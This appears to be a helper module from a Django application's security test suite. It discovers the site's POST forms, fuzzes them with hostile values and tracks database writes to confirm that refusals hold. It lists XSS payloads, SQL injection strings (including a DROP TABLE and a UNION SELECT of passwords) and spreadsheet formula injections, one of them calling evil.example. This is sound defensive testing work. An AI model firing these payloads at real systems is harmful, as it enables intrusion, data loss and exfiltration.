"""The forms of the site as a browser finds them, and hostile things to put in them (issue 16,
item 2; the tests are in test_hostile_forms.py).

The fuzzer is not told which forms exist: it opens every page of the authorization matrix as
every user who may open it, reads the POST forms in the HTML (as a browser would), and sends
what those forms would send with some values replaced by hostile ones. A new form on any page
is therefore fuzzed without anyone listing it, and a URL that takes a POST without a form on a
page is found by the coverage test.

Whether a post wrote to any table that holds the system's data (audit and login throttling
aside) is read from the database (`Writes`), so a refused post is told from an accepted one
without trusting the response.
"""

import datetime
import json
import re
import urllib.parse
from dataclasses import dataclass, field
from html.parser import HTMLParser

from django.apps import apps
from django.contrib.messages import get_messages
from django.db import connection
from django.urls import Resolver404, resolve
from django.utils import timezone
from hypothesis import strategies as st

from accounts.roles import ROLE_NAMES
from audit.models import LogEntry
from sspf.csvexport import FORMULA_STARTS
from tests.cases.factories import make_personnummer
from tests.security import matrix

ANONYMOUS = matrix.ANONYMOUS
# The login page and a few others are for the anonymous visitor.
VISITORS = [*ROLE_NAMES, ANONYMOUS]

# Tables a refused post may still write to: the audit log (reads and refusals are logged), the
# login throttling (a wrong password counts), the one-time second factor's throttling and the
# session.
REFUSAL_TABLES = {
    "audit_logentry",
    "audit_seal",
    "audit_chainhead",
    "audit_checkpoint",
    "axes_accessattempt",
    "axes_accessattemptexpiration",
    "axes_accessfailurelog",
    "axes_accesslog",
    "otp_totp_totpdevice",
    "django_session",
}


# --- Hostile values ----------------------------------------------------------------------------

# HTML that must never come back raw: each is recognised on a page by `RAW_HTML`.
HTML = [
    "<script>fz(1)</script>",
    "<img src=x onerror=fz(2)>",
    '"><svg onload=fz(3)>',
    "'><iframe srcdoc=fz(4)>",
    '" autofocus onfocus="fz(5)',
    "</textarea><script>fz(6)</script>",
    "<a href=javascript:fz(7)>x</a>",
]
RAW_HTML = re.compile(
    r"<script>fz\(|<img src=x onerror=fz|<svg onload=fz|<iframe srcdoc=fz"
    r'|" autofocus onfocus="fz|<a href=javascript:fz'
)
SQL = [
    "' OR '1'='1",
    "1; DROP TABLE cases_case; --",
    "1 UNION SELECT password FROM accounts_user",
    "%' AND 1=0 --",
    "\\'; SELECT pg_sleep(0); --",
    "0x7fffffffffffffff",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"x")',
    "+46 8 123",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
]
# Characters of every class that breaks naive code: controls (NUL among them), bidirectional
# marks, zero-width characters, digits that are not ASCII, a lone surrogate (sent as the bytes
# UTF-8 would give it, which are not valid UTF-8), and invalid UTF-8 itself.
ODD_CHARACTERS = [
    "\x00",
    "\x01",
    "\x07",
    "\x1b",
    "\x7f",
    "\x85",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u200e",
    "\u200f",
    "\u202a",
    "\u202e",
    "\u2066",
    "\u2069",
    "\u061c",
    "\u00a0",
    "\u3000",
    "\u2028",
    "\ud800",
    "\udfff",
    "\U0001f600",
    "\u0301",
    "\ufffd",
    "\uffff",
]
NON_ASCII_DIGITS = ["１２", "٣", "۴", "७", "๒", "𝟘", "①", "²", "Ⅻ", "〇"]
HUGE_NUMBERS = [
    "99999999999999999999",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "-1",
    "0",
    "-100",
    "100",
    "-0",
    "1e309",
    "1e3",
    "NaN",
    "inf",
    "-inf",
    "0x10",
    "1_000",
    " 7 ",
    "1.5",
    "2147483648",
    "9" * 400,
]
IMPOSSIBLE_DATES = [
    "2026-02-30",
    "2026-13-01",
    "2026-00-10",
    "0000-01-01",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "-2026-01-01",
    "2026-1-1",
    "31/12/2026",
    "2026-12-31T25:61",
    "0001-01-01T00:00",
    "9999-12-31T23:59",
    "２０２６-０１-０１",
    "2026-01-01\x00",
    "1899-12-31",
    "2101-01-01",
    "24:00",
    "-01:00",
    "99:99",
]
INVALID_UTF8 = b"\xff\xfe\xc3("  # not text at all: the server must not trip over it


def _text_of(codes):
    return st.text(alphabet=st.characters(codec=None, categories=codes), min_size=1, max_size=40)


LEGAL_TEXT = st.text(min_size=1, max_size=30).filter(str.strip)
ANY_TEXT = st.one_of(
    st.text(max_size=60),  # every class, surrogates included
    _text_of(["Cc", "Cf", "Zl", "Zp", "Zs"]),
    _text_of(["Nd", "Nl", "No"]),
    _text_of(["Mn", "Me", "So", "Co", "Cs"]),
)
OVERSIZED = st.sampled_from([201, 1001, 4001, 20001, 100_001]).flatmap(
    lambda n: st.sampled_from(["x" * n, "å" * n, "<b>" * (n // 3 + 1), "1" * n, "\u200b" * n])
)
HOSTILE_TEXT = st.one_of(
    st.sampled_from(HTML),
    st.sampled_from(SQL),
    st.sampled_from(FORMULAS),
    st.sampled_from(ODD_CHARACTERS),
    st.sampled_from(NON_ASCII_DIGITS),
    ANY_TEXT,
    OVERSIZED,
    # a hostile piece inside ordinary text: kept by a form that accepts the rest
    st.tuples(
        LEGAL_TEXT,
        st.sampled_from(HTML + FORMULAS + SQL + ODD_CHARACTERS),
        st.sampled_from(["", " ", "\t", "\n"]),
    ).map(lambda t: t[0] + t[2] + t[1]),
    st.sampled_from(FORMULAS + HTML).map(lambda bad: bad + " Fuzz"),
)
HOSTILE_NUMBER = st.one_of(
    st.sampled_from(HUGE_NUMBERS),
    st.sampled_from(NON_ASCII_DIGITS),
    st.integers().map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)
HOSTILE_DATE = st.one_of(
    st.sampled_from(IMPOSSIBLE_DATES),
    st.dates().map(datetime.date.isoformat),  # year 1 to year 9999
    st.datetimes().map(lambda moment: moment.strftime("%Y-%m-%dT%H:%M")),
    st.times().map(lambda t: t.strftime("%H:%M")),
)


@dataclass
class Control:
    """One named input of a form, as the HTML declares it."""

    name: str
    kind: str  # an input's type, or "select", "textarea", "button"
    values: list[str] = field(default_factory=list)  # what the page sends (checked, selected)
    options: list[str] = field(default_factory=list)  # what it could send (options, boxes)
    required: bool = False
    multiple: bool = False
    minimum: str = ""


@dataclass
class Form:
    action: str
    controls: dict[str, Control]

    def signature(self) -> frozenset:
        return frozenset(self.controls)


class _FormParser(HTMLParser):
    def __init__(self, page_url):
        super().__init__(convert_charrefs=True)
        self.page_url = page_url
        self.forms: list[Form] = []
        self.form: Form | None = None
        self.select: Control | None = None
        self.option_value: str | None = None
        self.option_selected = False
        self.textarea: Control | None = None
        self.textarea_start = False

    def _control(self, name, kind, **kwargs) -> Control:
        found = self.form.controls.get(name)
        if found is None:
            found = self.form.controls[name] = Control(name, kind, **kwargs)
        return found

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            if (a.get("method") or "get").lower() == "post":
                action = urllib.parse.urljoin(self.page_url, a.get("action") or self.page_url)
                self.form = Form(action=urllib.parse.urlsplit(action).path, controls={})
                self.forms.append(self.form)
            return
        if self.form is None or "name" not in a or "disabled" in a:
            if tag == "option" and self.select is not None:
                self.option_value = a.get("value")
                self.option_selected = "selected" in a
            return
        name, required = a["name"], "required" in a
        if tag == "input":
            kind = (a.get("type") or "text").lower()
            control = self._control(name, kind, required=required, minimum=a.get("min", ""))
            value = a.get("value", "on" if kind in ("checkbox", "radio") else "")
            if kind in ("checkbox", "radio"):
                control.options.append(value)
                control.multiple = kind == "checkbox"
                if "checked" in a:
                    control.values.append(value)
            elif kind in ("submit", "image", "reset", "file"):
                control.kind = "button"
                control.options.append(value)
            else:
                control.values.append(value)
        elif tag == "button" and (a.get("type") or "submit") == "submit":
            self._control(name, "button").options.append(a.get("value", ""))
        elif tag == "select":
            self.select = self._control(name, "select", required=required)
            self.select.multiple = "multiple" in a
        elif tag == "textarea":
            self.textarea = self._control(name, "textarea", required=required)
            self.textarea.values.append("")
            self.textarea_start = True

    def handle_data(self, data):
        if self.textarea is not None:
            if self.textarea_start:  # the newline after <textarea> is not part of the value
                data, self.textarea_start = data.removeprefix("\n"), False
            self.textarea.values[-1] += data

    def handle_endtag(self, tag):
        if tag == "form":
            self.form = None
        elif tag == "select":
            self.select = None
        elif tag == "textarea":
            self.textarea = None
        elif tag == "option" and self.select is not None:
            value = self.option_value if self.option_value is not None else ""
            self.select.options.append(value)
            if self.option_selected:
                self.select.values.append(value)
            self.option_value, self.option_selected = None, False


def post_forms(page: str, page_url: str) -> list[Form]:
    parser = _FormParser(page_url)
    parser.feed(page)
    return parser.forms


def filler(control: Control) -> str:
    """An ordinary value for a required input the page leaves empty."""
    now = timezone.localtime()
    kind, name = control.kind, control.name
    if kind == "date":
        return now.date().isoformat()
    if kind == "datetime-local":
        return now.strftime("%Y-%m-%dT%H:%M")
    if kind == "time":
        return "10:00" if "end" in name else "09:00"
    if kind == "number":
        return control.minimum or "1"
    if kind == "email":
        return "fuzz@example.org"
    if "personnummer" in name:
        return make_personnummer(now.date() - datetime.timedelta(days=15 * 365))
    if kind == "password":
        return "not-the-password"
    return "Fuzz"


def candidates(control: Control) -> list[str]:
    """Other ordinary values to try in an input whose value the form refused."""
    today = timezone.localdate()
    if control.kind in ("select", "radio", "checkbox"):
        return [option for option in control.options if option]
    if control.kind == "number":
        return ["1", "5", str(today.year - 1)]
    if control.kind == "date":
        return [(today + datetime.timedelta(days=d)).isoformat() for d in (-1, 7, -30)]
    if control.kind == "datetime-local":
        return [(timezone.localtime() - datetime.timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M")]
    if "personnummer" in control.name:
        return [filler(control)]
    return ["Fuzz", "5000-K1-26"]


FIELD_ERROR = re.compile(r'id="id_([\w-]+)_error"')


def refused_fields(page: str) -> list[str]:
    """The inputs that the form marked as wrong (field.html names their error elements)."""
    return list(dict.fromkeys(FIELD_ERROR.findall(page)))


def baseline(form: Form) -> list[tuple[str, str]]:
    """What a browser sends for the form as the page shows it, with the required inputs that
    the page leaves empty filled in with ordinary values."""
    pairs = []
    for control in form.controls.values():
        if control.kind == "button":
            if control.options:
                pairs.append((control.name, control.options[0]))
            continue
        values = [v for v in control.values if v != ""] or list(control.values)
        if control.kind in ("checkbox", "radio"):
            if not values and control.required and control.options:
                values = control.options[:1]
        elif control.kind == "select":
            chosen = [v for v in control.values]
            if not chosen and not control.multiple and control.options:
                chosen = control.options[:1]
            if control.required and not any(chosen):
                chosen = [next((o for o in control.options if o), "")]
            values = chosen
        elif control.required and not any(values):
            values = [filler(control)]
        pairs.extend((control.name, value) for value in values)
    return pairs


@dataclass
class Site:
    """A form to fuzz: where it posts, who sends it, and where an intruder would post it."""

    name: str  # the URL pattern's name in the matrix
    url: str
    role: str
    form: Form
    outside_url: str | None = None  # the same form posted to an object out of the user's scope
    pairs: list = field(default_factory=list)  # an ordinary send (see `repair`)
    reads_only: bool = False  # posting the form as shown changes nothing (a search)
    quiet_redirect: bool = False  # posting it as shown redirects without a message (logout)

    @property
    def label(self) -> str:
        return f"{self.name} as {self.role} ({len(self.form.controls)} inputs)"


def url_name(path: str) -> str | None:
    try:
        match = resolve(path)
    except Resolver404:
        return None
    if match.url_name:
        return f"{match.namespace}:{match.url_name}" if match.namespace else match.url_name
    return None


def as_user(client, world, who):
    """Signs the client in as `who`, unless it still is (its session cookie unchanged)."""
    cookie = client.cookies.get("sessionid")
    if getattr(client, "fuzz_user", None) == (who, cookie and cookie.value):
        return
    client.logout()
    if who != ANONYMOUS:
        client.force_login(world[who])
    cookie = client.cookies.get("sessionid")
    client.fuzz_user = (who, cookie and cookie.value)


def readable_pages(world, *, everyone=False):
    """(pattern name, url, role) for every page of the matrix that a role may open (in scope):
    for the first such role in the matrix's order (the coordinator first), or for every one."""
    for name, policy in matrix.cases():
        if policy.method != "get" or policy.scope == "out of scope" or name.startswith("admin:"):
            continue
        if name.endswith("csv") or name == "meetings:feed":
            continue
        url = matrix.url_for(name, policy, world)
        readers = [who for who in VISITORS if policy.expected[who] == 200]
        for who in readers if everyone else readers[:1]:
            yield name, url, who


def admin_pages(world):
    """The administrator's add and change pages of the reference data."""
    for name, policy in matrix.cases():
        forms = name.startswith("admin:") and name.endswith(("_add", "_change", "_password_change"))
        if forms and policy.expected["administrator"] == 200:
            yield name, matrix.url_for(name, policy, world), "administrator"


def outside_urls(world) -> dict[str, str]:
    """For each pattern with an out-of-scope row in the matrix: its URL on that object."""
    found = {}
    for name, policy in matrix.cases():
        if policy.scope == "out of scope":
            found[name] = matrix.url_for(name, policy, world)
    return found


# --- Sending -----------------------------------------------------------------------------------


def encode(pairs) -> bytes:
    """The urlencoded body; a str value is sent as UTF-8 (a lone surrogate as the bytes UTF-8
    would give it), a bytes value as it is."""

    def quoted(value):
        raw = value if isinstance(value, bytes) else value.encode("utf-8", "surrogatepass")
        return urllib.parse.quote_from_bytes(raw, safe="")

    return "&".join(f"{quoted(name)}={quoted(value)}" for name, value in pairs).encode("ascii")


def send(client, url, pairs, *, as_json=False):
    if as_json:  # the wrong kind of body altogether: the form sees no fields
        body = json.dumps({name: str(value) for name, value in pairs if isinstance(value, str)})
        return client.post(url, data=body, content_type="application/json")
    return client.post(url, data=encode(pairs), content_type="application/x-www-form-urlencoded")


def shown_messages(response) -> list:
    return list(get_messages(response.wsgi_request))


def page_text(response) -> str:
    content = b"".join(response) if response.streaming else response.content
    return content.decode("utf-8", "replace")


def shows_an_error(page: str) -> bool:
    """The form came back with its errors on it (form_errors.html, field.html, Django's own
    lists in the admin)."""
    return any(
        mark in page
        for mark in ('role="alert"', 'class="field-error"', 'class="errorlist', "errornote")
    )


def raw_html(page: str) -> list[str]:
    return RAW_HTML.findall(page)


def formula_cells(rows) -> list[str]:
    """Cells that a spreadsheet would run: a text cell that begins like a formula. A number
    the code itself writes (-3, +2.5) is a number, not a formula."""
    number = re.compile(r"[-+]?\d+([.,]\d+)?")
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not number.fullmatch(cell)
    ]


# --- The database before and after -------------------------------------------------------------


class Writes:
    """Which data tables a request wrote to (INSERT, UPDATE or DELETE), read in one query.

    On SQLite, temporary triggers on every data table note the table in a temporary table
    (rolled back with each example); on PostgreSQL, the transaction's own statistics
    (pg_stat_xact_user_tables) are compared before and after. Either way an UPDATE that
    leaves a row as it was still counts: a refused post writes nothing at all."""

    def __init__(self, tables):
        self.tables = tables
        if connection.vendor == "sqlite":
            with connection.cursor() as cursor:
                cursor.execute("CREATE TEMP TABLE IF NOT EXISTS fuzz_writes (name text)")
                for table in tables:
                    for event in ("INSERT", "UPDATE", "DELETE"):
                        cursor.execute(
                            f"CREATE TEMP TRIGGER IF NOT EXISTS fuzz_{event}_{table} "
                            f"AFTER {event} ON main.{connection.ops.quote_name(table)} "
                            f"BEGIN INSERT INTO fuzz_writes VALUES ('{table}'); END"
                        )

    def mark(self):
        with connection.cursor() as cursor:
            if connection.vendor == "sqlite":
                cursor.execute("SELECT DISTINCT name FROM fuzz_writes")
                return {name: 1 for (name,) in cursor.fetchall()}
            cursor.execute(
                "SELECT relname, n_tup_ins + n_tup_upd + n_tup_del FROM pg_stat_xact_user_tables"
            )
            return dict(cursor.fetchall())

    def since(self, mark) -> list[str]:
        now = self.mark()
        return sorted(t for t in self.tables if now.get(t, 0) != mark.get(t, 0))


def data_tables() -> list[str]:
    tables = sorted({m._meta.db_table for m in apps.get_models() if m._meta.managed})
    return [t for t in tables if t not in REFUSAL_TABLES]


def audit_actions_since(last_id) -> list[int]:
    return list(LogEntry.objects.filter(pk__gt=last_id).values_list("action", flat=True))


def last_audit_id() -> int:
    return LogEntry.objects.order_by("-pk").values_list("pk", flat=True).first() or 0
